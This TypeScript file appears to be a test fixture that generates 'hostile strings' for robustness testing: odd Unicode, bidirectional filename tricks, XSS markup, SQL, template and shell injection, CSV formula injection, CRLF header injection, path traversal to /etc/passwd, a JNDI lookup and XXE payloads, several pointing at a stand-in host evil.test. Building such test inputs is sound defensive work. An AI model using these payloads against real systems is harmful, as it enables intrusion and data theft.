/**
 * Texts that break programs, made family by family instead of copied from somewhere: each family is one way of going
 * wrong, with its variations multiplied out. Every one is a text that somebody could send.
 */

const chars = (...codes: number[]): string => String.fromCodePoint(...codes)
const span = (from: number, to: number): number[] => Array.from({ length: to - from + 1 }, (_, at) => from + at)
const each = <One>(list: readonly One[], make: (one: One) => string | string[]): string[] => list.flatMap(make)

/** Every control character there is, between letters where no trimming reaches it. */
const controls = each([...span(0x00, 0x1f), ...span(0x7f, 0x9f)], (code) => `a${chars(code)}b`)

/** What is not seen, alone and within a word: spaces of every width, joiners, marks of direction, tags, selectors. */
const unseenCodes = [
  ...[0x20, 0xa0, 0xad, 0x034f, 0x061c, 0x115f, 0x1680, 0x17b4, 0x180e, 0x3000, 0x3164, 0xfeff, 0xffa0, 0xfff9, 0xfffc],
  ...span(0x2000, 0x200f),
  ...span(0x2028, 0x202f),
  ...span(0x2060, 0x206f),
  ...[0xfe00, 0xfe0f, 0xe0001, 0xe0041, 0xe007f, 0xe0100],
]
const unseen = each(unseenCodes, (code) => [chars(code), `in${chars(code)}side`])

const directed = each([0x202a, 0x202b, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068], (code) => [
  `invoice${chars(code)}fdp.exe`,
  `${chars(code).repeat(64)}deep`,
])

/** Halves of a character, in wrong order, alone, and at the edges of their ranges; and what is no character at all. */
const halves = each([0xd800, 0xdbff, 0xdc00, 0xdfff], (code) => {
  const half = String.fromCharCode(code)
  return [half, `a${half}`, `${half}b`, half + half]
}).concat(`${String.fromCharCode(0xde00)}${String.fromCharCode(0xd83d)}`)
const nobodys = each([0xfdd0, 0xfffe, 0xffff, 0x1fffe, 0x10ffff, 0xe000, 0xf8ff, 0xfffd], (code) => `x${chars(code)}`)

/** The same letter spelled in several ways, letters that grow or shrink with their case, and heaps of marks on one letter. */
const spelled = [
  ...each(['é', 'Å', 'ǖ', '각', 'क़', 'ự'], (letter) => [letter.normalize('NFC'), letter.normalize('NFD')]),
  ...['ß', 'ẞ', 'İ', 'ı', 'ſ', 'K', 'Å', 'ﬀ', 'ŉ', 'ΐ', 'ﷺ', '①', 'Ⅷ', '½', '㎏', '𝕬', 'ª', 'ﬁ', 'ǆ', 'ς'],
  ...each([1, 10, 100, 400], (count) => `a${chars(0x0301).repeat(count)}`),
  ...each(span(0x0316, 0x0320), (mark) => `Z${chars(mark).repeat(20)}g`),
]

const scripts = [
  ...[
    'שלום עולם',
    'مرحبا بالعالم',
    '北京市朝阳区',
    'こんにちは',
    '안녕하세요',
    'สวัสดีชาวโลก',
    'नमस्ते दुनिया',
    'Γειά σου',
    'Привет',
  ],
  ...[
    'ሰላም',
    'ᚠᛇᚻ',
    '𐎠𐎢',
    '𠜎𠜱',
    'ꦲꦤ',
    'ދިވެހި',
    'தமிழ்',
    'ភាសាខ្មែរ',
    'မြန်မာ',
    'ქართული',
    'Հայերեն',
    'ಠ_ಠ',
    '¯\\_(ツ)_/¯',
    'Ω≈ç√∫˜µ≤≥÷',
  ],
]

const family = ['👨', '👩', '👧', '👦']
const drawn = [
  ...each(family, (one) => [one, `${one}${chars(0x1f3ff)}`, `${one}${chars(0x200d)}💻`]),
  ...[family.join(chars(0x200d)), '🏴󠁧󠁢󠁳󠁣󠁴󠁿', '🇲🇹', '🇦', '1️⃣', '🏳️‍🌈', '😀'.repeat(200), chars(0x200d).repeat(50)],
]

/** A call of a script by every way into a page that there is: element, handler, address, style, and out of a quote. */
const call = 'alert(1)'
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onclick',
  'onmouseover',
  'onpointerenter',
  'ontoggle',
  'onanimationend',
]
const markup = [
  ...each(['script', 'SCRIPT', 'scr\0ipt', 'script/x', 'ſcript'], (tag) => `<${tag}>${call}</${tag}>`),
  ...each(handlers, (handler) => [
    `<img src=x ${handler}=${call}>`,
    `<svg/${handler}="${call}">`,
    `"><b ${handler}=${call} autofocus tabindex=1>`,
  ]),
  ...each(
    ['javascript', 'JaVaScRiPt', 'java\tscript', '\u0001javascript', 'vbscript', 'data', 'blob', 'file'],
    (scheme) => [`${scheme}:${call}`, `<a href="${scheme}:${call}">x</a>`],
  ),
  ...each(['textarea', 'title', 'style', 'noscript', 'template', 'xmp', 'select', 'math', 'svg', 'iframe'], (tag) => [
    `</${tag}><script>${call}</script>`,
    `<${tag}><img src=x onerror=${call}></${tag}>`,
  ]),
  ...each(["'", '"', '`', "\\'", '\\"', '-->', ']]>', '*/', '</script>'], (end) => `${end};${call}//`),
  ...['<!--', '<![CDATA[', '<?xml version="1.0"?>', '&lt;b&gt;', '&#0;&#x110000;&amp', '<b', '<', '>', '&', '<a b="c'],
  ...['<meta http-equiv=refresh content="0;url=//evil.test">', '<base href=//evil.test>', '<form action=//evil.test>'],
  ...['<object data=//evil.test>', '<embed src=//evil.test>', '<link rel=stylesheet href=//evil.test>'],
  ...[
    '<p style="position:fixed;inset:0">',
    '<style>*{display:none}</style>',
    '<div id=root>',
    '<input name=attributes>',
  ],
]

/** Code for whoever should glue texts together: databases, shells, templates, spreadsheets, headers, paths, loggers. */
const code = [
  ...each(["'", '"', '`', "')", '"))', "\\'"], (end) => [`${end} or 1=1 --`, `${end}; drop table members; --`]),
  ...[
    'select pg_sleep(9)',
    "E'\\x00'",
    '$$;$1',
    '::uuid',
    '/**/',
    '1/0',
    'null--',
    '%',
    '_',
    '%_%',
    '\\%',
    '{1,2}',
    '(1,2)',
  ],
  ...each(['{{', '${', '#{', '<%=', '{%', '[[', '@{', '*{', '{{{'], (begin) => `${begin}7*7${mirrored(begin)}`),
  ...['$&', '$1', '$`', "$'", '$$', '{{count}}', '{{ count }}', '{workspace}', '__CSP_NONCE__', '%s%n%x%d', '%1$s'],
  ...each(
    ['$(id)', '`id`', '| id', '; id', '&& id', '|| id', '\n id', '> /tmp/x', '$HOME', '%PATH%'],
    (piece) => `x ${piece}`,
  ),
  ...each(['=', '+', '-', '@', '\t=', '\r=', '|', '%'], (begin) => [
    `${begin}1+1`,
    `${begin}HYPERLINK("//evil.test","x")`,
  ]),
  ...each(['\r\n', '\n', '\r', '%0d%0a', '\u0085', '\u2028', '\u560d\u560a'], (end) => [
    `a${end}Bcc: x@evil.test`,
    `a${end}Set-Cookie: a=b`,
    `a${end}${end}<b>body</b>`,
  ]),
  ...each([1, 3, 8], (count) => [`${'../'.repeat(count)}etc/passwd`, `${'..\\'.repeat(count)}win.ini`]),
  ...[
    '/etc/passwd',
    'C:\\con',
    '\\\\evil.test\\x',
    'file:///x',
    '//evil.test',
    '/\\evil.test',
    'https://evil.test',
    '.',
    '..',
    '~',
  ],
  ...[
    'x\0.png',
    '%00',
    '%2e%2e%2f',
    '%zz',
    '%',
    '?a[]=1#x',
    'a&b=c',
    '*)(uid=*))(|(uid=*',
    '(a+)+$',
    '^(.*)*$',
    '['.repeat(50),
  ],
  ...[
    `${'$'}{jndi:ldap://evil.test/x}`,
    '{"$gt":""}',
    '[$ne]=1',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>',
  ],
]

function mirrored(text: string): string {
  const pairs = new Map([
    ['{', '}'],
    ['[', ']'],
    ['<', '>'],
    ['=', ''],
    ['$', ''],
    ['#', ''],
    ['@', ''],
    ['*', ''],
    ['%', '%'],
  ])
  return [...text]
    .reverse()
    .map((char) => pairs.get(char) ?? char)
    .join('')
}

/** Names that mean something to a program which takes texts for keys or for words of its own. */
const meant = [
  ...Object.getOwnPropertyNames(Object.prototype),
  ...[
    'prototype',
    'then',
    'length',
    'name',
    'toJSON',
    'undefined',
    'null',
    'NULL',
    'nil',
    'None',
    'NaN',
    'true',
    'false',
  ],
  ...[
    '[object Object]',
    'function(){}',
    'new Date()',
    'this',
    'arguments',
    '{}',
    '[]',
    '""',
    '{"__proto__":{"polluted":1}}',
  ],
  ...[
    '_id',
    'workspace_id',
    'id',
    'status',
    'constructor[prototype][polluted]',
    '__proto__.polluted',
    'admin',
    'root',
    'CON',
  ],
]

const numbers = [
  ...[
    '0',
    '-0',
    '+0',
    '00',
    '0.0',
    '.5',
    '5.',
    '1e1',
    '1e309',
    '-1e309',
    '1E-400',
    '0x10',
    '0b1',
    '0o7',
    '1n',
    '1_000',
  ],
  ...[
    '1,000.00',
    '1.000,00',
    '1 000',
    '$1',
    '1%',
    '½',
    '٣',
    '１２',
    '१२',
    '⁵',
    '∞',
    '-Infinity',
    'Infinity',
    '--1',
    '1-1',
  ],
  ...each([7, 15, 31, 32, 53, 63, 64, 1023], (bits) => [
    String(2n ** BigInt(bits)),
    String(-(2n ** BigInt(bits)) - 1n),
  ]),
  ...[
    '1970-01-01',
    '0000-00-00',
    '9999-12-31',
    '+275760-09-13',
    '2026-02-30',
    '24:00',
    '1/1/1',
    '12345678901234567890.12',
  ],
]

/** Long without a place to break, long with many, and just about at the lengths that fields have. */
const long = [
  ...each([63, 64, 99, 100, 101, 128, 199, 200, 201, 254, 255, 256, 499, 500, 501, 999, 1_000, 1_001], (count) =>
    'w'.repeat(count),
  ),
  ...each(['漢', '😀', 'a ', ' a', '<b>', '&amp;', '\u202e', '"', '\\'], (piece) => [
    piece.repeat(90),
    piece.repeat(3_000),
  ]),
]

export const hostileStrings: readonly string[] = [
  ...new Set(
    [controls, unseen, directed, halves, nobodys, spelled, scripts, drawn, markup, code, meant, numbers, long].flat(),
  ),
]

/** One of each family and the ones that have their own rule, where all of them would take too long. */
export const fewHostileStrings: readonly string[] = [
  'a\u0000b',
  'a\r\nBcc: x@evil.test',
  'invoice\u202efdp.exe',
  '\u200b',
  `a${String.fromCharCode(0xd800)}`,
  `a${'\u0301'.repeat(30)}`,
  '👨‍👩‍👧 e\u0301',
  '<img src=x onerror=alert(1)>',
  "' or 1=1 --",
  '{{7*7}} $& %s',
  '__proto__',
  '=HYPERLINK("//evil.test")',
  'w'.repeat(200),
]

/** Larger than any body may be. */
export const millionChars = 'm'.repeat(1_000_000)
